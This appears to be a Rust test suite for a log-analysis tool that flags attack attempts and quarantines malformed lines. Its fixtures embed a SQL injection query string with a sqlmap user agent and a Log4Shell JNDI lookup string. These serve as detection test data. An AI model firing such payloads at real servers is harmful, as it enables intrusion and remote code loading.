//! Hostile and broken inputs: each is quarantined with file, line and reason, or is a clear
//! error naming the file — never a panic — and the counts reconcile.

use lockstep_infra::{infra, InfraError, Params};
use std::io::Write;
use std::path::Path;

const OK: &str = r#"bec.ro:443 198.51.100.7 - - [19/Nov/2024:12:00:00 +0000] "GET /cautare?q=1%27+OR+%271%27%3D%271 HTTP/1.1" 200 512 "-" "sqlmap/1.8""#;

fn counts(case: &Path) -> serde_json::Value {
    let m: serde_json::Value =
        serde_json::from_slice(&std::fs::read(case.join("manifest.json")).unwrap()).unwrap();
    for i in m["inputs"].as_array().unwrap() {
        assert_eq!(
            i["read"].as_u64().unwrap(),
            i["accepted"].as_u64().unwrap() + i["quarantined"].as_u64().unwrap(),
            "{i}"
        );
    }
    m["counts"].clone()
}

#[test]
fn the_line_limit_is_a_parameter_and_recorded() {
    let dir = tempfile::tempdir().unwrap();
    let p = dir.path().join("access.log");
    let long = format!("{OK} {}", "y".repeat(200));
    std::fs::write(&p, format!("{OK}\n{long}\n{OK}\n")).unwrap();
    let params = Params {
        max_line_bytes: OK.len() + 10,
        ..Params::default()
    };
    let case = dir.path().join("case");
    let o = infra(&[p], &case, &params).expect("infra");
    assert_eq!((o.read, o.accepted, o.quarantined), (3, 2, 1));
    let q = std::fs::read_to_string(case.join("quarantine.ndjson")).unwrap();
    let want = format!("longer than {} (limit max_line_bytes)", OK.len() + 10);
    assert!(q.contains(&want) && q.contains("\"line\":2"), "{q}");
    let m: serde_json::Value =
        serde_json::from_slice(&std::fs::read(case.join("manifest.json")).unwrap()).unwrap();
    let recorded = &m["parameters"]["max_line_bytes"];
    assert_eq!(recorded, OK.len() + 10, "{}", m["parameters"]);
}

#[test]
fn mixed_long_ipv6_zone_and_invalid_utf8() {
    let dir = tempfile::tempdir().unwrap();
    let p = dir.path().join("mixed.log");
    let mut f = std::fs::File::create(&p).unwrap();
    writeln!(f, "{OK}").unwrap();
    writeln!(
        f,
        "Nov 19 12:00:01 bastion sshd[4]: Failed password for root from fe80::1%eth0 port 22 ssh2"
    )
    .unwrap();
    writeln!(f, r#"{{"remote_addr":"2001:db8::5","time_iso8601":"2024-11-19T12:00:02Z","request":"GET /x?a=${{jndi:ldap://x/a}} HTTP/1.1","status":404}}"#).unwrap();
    f.write_all(&vec![b'x'; 100 << 20]).unwrap(); // a 100 MB line
    writeln!(f).unwrap();
    f.write_all(b"bec.ro:443 198.51.100.8 - - [19/Nov/2024:12:00:03 +0000] \"GET /a\xff\xfe HTTP/1.1\" 400 0 \"-\" \"-\"\n").unwrap();
    f.write_all(b"\x00\x01\x02 binary in the middle\n").unwrap();
    writeln!(f, "not a log line at all").unwrap();
    drop(f);
    let case = dir.path().join("case");
    let o = infra(&[p], &case, &Params::default()).expect("infra");
    assert_eq!((o.read, o.accepted, o.quarantined), (7, 4, 3));
    let c = counts(&case);
    assert_eq!(c["quarantined"], 3);
    let q = std::fs::read_to_string(case.join("quarantine.ndjson")).unwrap();
    let lines: Vec<serde_json::Value> = q
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(
        lines
            .iter()
            .map(|l| l["line"].as_u64().unwrap())
            .collect::<Vec<_>>(),
        vec![4, 6, 7]
    );
    assert!(lines[0]["reason"].as_str().unwrap().contains("longer than"));
    let attempts = std::fs::read_to_string(case.join("attempts.csv")).unwrap();
    assert!(attempts.contains(",sqli;scanner,"), "{attempts}");
    assert!(attempts.contains("java"), "{attempts}");
    // One failed SSH login (from an address with a zone id) is read, but no attempt yet.
    assert!(!attempts.contains("fe80::1"), "{attempts}");
    assert!(
        attempts.contains("198.51.100.8,protocol"),
        "invalid UTF-8 request is kept and flagged: {attempts}"
    );
}

#[test]
fn binary_and_truncated_files_are_errors() {
    let dir = tempfile::tempdir().unwrap();
    let bin = dir.path().join("garbage.bin");
    let mut bytes = vec![0u8; 4096];
    for (i, b) in bytes.iter_mut().enumerate() {
        *b = (i * 7919 % 251) as u8;
    }
    std::fs::write(&bin, &bytes).unwrap();
    let e = infra(
        std::slice::from_ref(&bin),
        &dir.path().join("c1"),
        &Params::default(),
    )
    .unwrap_err();
    assert!(matches!(e, InfraError::Read(_)), "{e}");
    assert!(
        e.to_string().contains("garbage.bin") && e.to_string().contains("binary"),
        "{e}"
    );
    let gz = dir.path().join("cut.log.gz");
    let mut enc = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    for _ in 0..5000 {
        writeln!(enc, "{OK}").unwrap();
    }
    let full = enc.finish().unwrap();
    std::fs::write(&gz, &full[..full.len() * 2 / 3]).unwrap();
    let e = infra(&[gz], &dir.path().join("c2"), &Params::default()).unwrap_err();
    assert!(e.to_string().contains("cut.log.gz"), "{e}");
    let e = infra(
        &[dir.path().join("missing.log")],
        &dir.path().join("c3"),
        &Params::default(),
    )
    .unwrap_err();
    assert!(e.to_string().contains("missing.log"), "{e}");
}

#[test]
fn syslog_without_a_year_needs_one() {
    let dir = tempfile::tempdir().unwrap();
    let p = dir.path().join("auth.log");
    std::fs::write(
        &p,
        "Nov 19 12:00:01 h sshd[4]: Failed password for root from 203.0.113.9 port 22 ssh2\n",
    )
    .unwrap();
    let e = infra(
        std::slice::from_ref(&p),
        &dir.path().join("c"),
        &Params::default(),
    )
    .unwrap_err();
    assert!(matches!(e, InfraError::Usage(_)), "{e}");
    let p2 = Params {
        syslog_year: Some(2024),
        ..Params::default()
    };
    infra(&[p], &dir.path().join("c"), &p2).expect("with --syslog-year");
    let a = std::fs::read_to_string(dir.path().join("c/attempts.csv")).unwrap();
    assert_eq!(
        a.lines().count(),
        1,
        "one failure is not an attempt yet: {a}"
    );
}

/// The case folder is replaced whole or not at all, never written into an input folder, and
/// never a folder of other files.
#[test]
fn the_case_folder_is_written_whole() {
    let dir = tempfile::tempdir().unwrap();
    let logs = dir.path().join("logs");
    std::fs::create_dir(&logs).unwrap();
    std::fs::write(logs.join("a.log"), format!("{OK}\n")).unwrap();
    let case = dir.path().join("case");
    let input = vec![logs.clone()];
    infra(&input, &case, &Params::default()).expect("first run");
    let first = std::fs::read(case.join("manifest.json")).unwrap();
    std::fs::write(case.join("stale.txt"), "from before").unwrap();

    // A run that fails (an input that does not exist) leaves the old case as it was.
    let err = infra(&[dir.path().join("missing.log")], &case, &Params::default()).unwrap_err();
    assert!(err.to_string().contains("missing.log"), "{err}");
    assert_eq!(std::fs::read(case.join("manifest.json")).unwrap(), first);
    assert!(case.join("stale.txt").exists());

    // A rerun replaces every file, including ones the new case does not write.
    std::fs::write(logs.join("b.log"), format!("{OK}\n")).unwrap();
    let o = infra(&input, &case, &Params::default()).expect("rerun");
    assert_eq!(o.files, 2);
    assert!(!case.join("stale.txt").exists());
    let left: Vec<String> = std::fs::read_dir(dir.path())
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| !n.ends_with("lockstep-lock"))
        .collect::<std::collections::BTreeSet<_>>()
        .into_iter()
        .collect();
    assert_eq!(left, ["case", "logs"], "no staging folder left behind");

    // The case inside an input folder would be read back next time.
    let inside = logs.join("case");
    let err = infra(&input, &inside, &Params::default()).unwrap_err();
    assert!(
        matches!(
            err,
            InfraError::Folder(lockstep_output::FolderError::OverlapsInput { .. })
        ) && err.is_usage(),
        "{err}"
    );
    assert!(!inside.exists());

    // A folder of other files is not a case: refused, untouched.
    let err = infra(&[logs.join("a.log")], &logs, &Params::default()).unwrap_err();
    assert!(err.is_usage(), "{err}");
    let foreign = dir.path().join("foreign");
    std::fs::create_dir(&foreign).unwrap();
    std::fs::write(foreign.join("notes.txt"), "mine").unwrap();
    let err = infra(&[logs.join("a.log")], &foreign, &Params::default()).unwrap_err();
    assert!(
        matches!(
            err,
            InfraError::Folder(lockstep_output::FolderError::NotACase { .. })
        ),
        "{err}"
    );
    assert_eq!(
        std::fs::read_to_string(foreign.join("notes.txt")).unwrap(),
        "mine"
    );
}
